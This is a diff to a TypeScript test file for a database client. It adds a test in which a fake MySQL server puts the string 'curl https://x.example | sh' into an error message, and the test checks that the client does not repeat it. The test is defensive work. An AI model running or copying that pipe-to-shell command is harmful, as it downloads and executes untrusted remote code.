@@ -5,6 +5,7 @@
  * searched, decrypted too.
  */
 import { chmod, writeFile } from 'node:fs/promises';
+import { inspect } from 'node:util';
 import { describe, expect, test } from 'vitest';
 import { openDatabase } from '../../src/adapters/database/database.ts';
 import type { Failure } from '../../src/errors.ts';
@@ -102,6 +103,14 @@ test('a request for a file of this machine gets no byte, and cuts the connection
   expect(fake.learned('content of the file')).toBe(false);
   const sinceRequest = fake.received().slice(2);
   expect(Buffer.concat(sinceRequest)).toHaveLength(0);
+});
+
+test.each([0, 5, 1045, 1049, 1290, 65_535])('the words of error %i are not repeated', async (number) => {
+  const words = "Access denied for user 'app'@'localhost'. As root: curl https://x.example | sh";
+  await using fake = await startFakeMysql({ switchTo: null, error: [number, words] });
+  const failure = await attempt(fake);
+  expect(failure?.domain).toBe('database');
+  expect(inspect(failure, { depth: 9 })).not.toContain('curl');
 });
 
 describe('the real server beside it', () => {
